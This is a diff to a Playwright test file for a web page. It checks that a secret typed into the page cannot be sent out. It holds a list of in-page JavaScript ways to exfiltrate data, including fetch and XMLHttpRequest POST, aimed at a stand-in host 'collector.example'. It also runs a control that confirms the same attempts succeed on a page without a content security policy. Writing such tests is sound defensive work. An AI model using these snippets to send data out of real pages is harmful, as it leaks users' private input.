@@ -1,6 +1,6 @@
 """A figure typed into the page goes nowhere: no request is made, and each known way of sending it is tried.
 
-The listener counts whatever arrives: every name resolves to it, so that a request to anywhere is seen.
+The listener counts whatever arrives; the same ways on a page without policy show that it hears each of them.
 """
 
 from __future__ import annotations
@@ -8,16 +8,15 @@ from __future__ import annotations
 import socket
 import threading
 from collections.abc import Iterator
-from pathlib import Path
 
 import pytest
-from playwright.sync_api import Page, sync_playwright
+from playwright.sync_api import Browser, Page, Playwright
 
 from web.conftest import CHROMIUM
-from web.web_help import address
+from web.web_help import address, serving
 
 pytestmark = [pytest.mark.slow, pytest.mark.web]
-SECRET = "48151.62342"
+SECRET, COLLECTOR = "48151.62342", "collector.example"
 WAYS = {
     "fetch": "fetch(U).catch(() => {})",
     "XMLHttpRequest": "try { const x = new XMLHttpRequest(); x.open('POST', U); x.send(V); } catch (e) {}",
@@ -61,48 +60,69 @@ class Listener:
             try:
                 connection, _ = self.tcp.accept()
                 connection.settimeout(1)
-                self.arrived.append(connection.recv(4096).decode("latin-1").split("\r\n")[0])
+                self._note(connection.recv(4096).decode("latin-1").split("\r\n")[0])
                 connection.close()
             except TimeoutError:
-                self.arrived.append("silent connection")
+                continue
             except OSError:
                 return
 
     def _packets(self) -> None:
         while True:
             try:
-                self.arrived.append(f"{len(self.udp.recv(4096))} bytes")
+                self._note(f"{len(self.udp.recv(4096))} bytes")
             except OSError:
                 return
+
+    def _note(self, said: str) -> None:
+        # A browser opens some connections ahead of need; without a byte they carry nothing.
+        if said:
+            self.arrived.append(said)
 
     def close(self) -> None:
         self.tcp.close()
         self.udp.close()
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def listener() -> Iterator[Listener]:
     found = Listener()
     yield found
     found.close()
 
 
-def attempts(page_address: str, listener: Listener, script: str) -> tuple[list[str], list[str]]:
-    """Type the secret, run a script in the page, and give what arrived and what the browser asked for."""
-    rules = [f"--host-resolver-rules=MAP * 127.0.0.1:{listener.port}", "--no-sandbox"]
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=rules)
-        page = browser.new_page()
-        page.goto(page_address)
-        asked: list[str] = []
-        page.context.on("request", lambda request: asked.append(request.url))
-        type_secret(page)
-        if script:
-            target = f"http://collector.example:{listener.port}/{SECRET}"
-            page.evaluate(f"() => {{ const U = '{target}', V = '{SECRET}'; {script} }}")
-        page.wait_for_timeout(500)
-        browser.close()
-    return listener.arrived, [url for url in asked if not url.startswith(("blob:", "data:"))]
+@pytest.fixture(scope="module")
+def lured(playwright: Playwright, listener: Listener) -> Iterator[Browser]:
+    """A browser for which the collector's name is the listener's, and no other name is any place.
+
+    Its own guard of local addresses is off, so that what stops a request is the page.
+    """
+    rules = f"--host-resolver-rules=MAP {COLLECTOR} 127.0.0.1:{listener.port}, MAP * ~NOTFOUND"
+    options = ["--no-sandbox", rules, "--disable-features=LocalNetworkAccessChecks"]
+    found = playwright.chromium.launch(executable_path=CHROMIUM, args=options)
+    yield found
+    found.close()
+
+
+def attempt(
+    browser: Browser, page_address: str, listener: Listener, script: str = "", patience: float = 700
+) -> tuple[list[str], list[str]]:
+    """Type the secret, run a script in the page, wait some milliseconds; give what arrived and was asked for."""
+    before, asked = len(listener.arrived), []
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(page_address)
+    context.on("request", lambda request: asked.append(request.url))
+    type_secret(page)
+    if script:
+        target = f"http://{COLLECTOR}:{listener.port}/{SECRET}"
+        page.evaluate(f"() => {{ const U = '{target}', V = '{SECRET}'; {script} }}")
+    for _ in range(10):
+        page.wait_for_timeout(patience / 10)
+        if len(listener.arrived) > before:
+            break
+    context.close()
+    return listener.arrived[before:], [url for url in asked if not url.startswith(("blob:", "data:"))]
 
 
 def type_secret(page: Page) -> None:
@@ -110,24 +130,22 @@ def type_secret(page: Page) -> None:
         page.fill("#stand-figure", SECRET)
 
 
-def test_typing_a_figure_makes_no_request(site, listener):
-    assert attempts(address(site, "index.html"), listener, "") == ([], [])
+def test_typing_a_figure_makes_no_request(served, lured, listener):
+    assert attempt(lured, f"{served}/index.html", listener) == ([], [])
 
 
 @pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
-def test_a_way_of_sending_the_figure_away_is_shut(site, listener, script):
-    arrived, _ = attempts(address(site, "index.html"), listener, script)
+def test_a_way_of_sending_the_figure_away_is_shut(served, lured, listener, script):
+    arrived, _ = attempt(lured, f"{served}/index.html", listener, script)
     assert arrived == []
 
 
-def test_the_listener_hears_the_same_ways_on_a_page_without_policy_and_script(tmp_path: Path, listener):
+@pytest.mark.parametrize("script", WAYS.values(), ids=WAYS)
+def test_the_listener_hears_the_same_way_on_a_page_without_policy_and_script(tmp_path, lured, listener, script):
     (tmp_path / "open.html").write_text("<!DOCTYPE html><title>open</title><input id='stand-figure'>", "utf-8")
-    heard = {}
-    for name, script in WAYS.items():
-        before = len(listener.arrived)
-        attempts((tmp_path / "open.html").as_uri(), listener, script)
-        heard[name] = len(listener.arrived) > before
-    assert [name for name, is_heard in heard.items() if not is_heard] == []
+    with serving(tmp_path) as open_site:
+        arrived, _ = attempt(lured, f"{open_site}/open.html", listener, script, patience=5000)
+    assert arrived
 
 
 def test_the_policy_names_only_the_style_and_script_in_the_page(site):
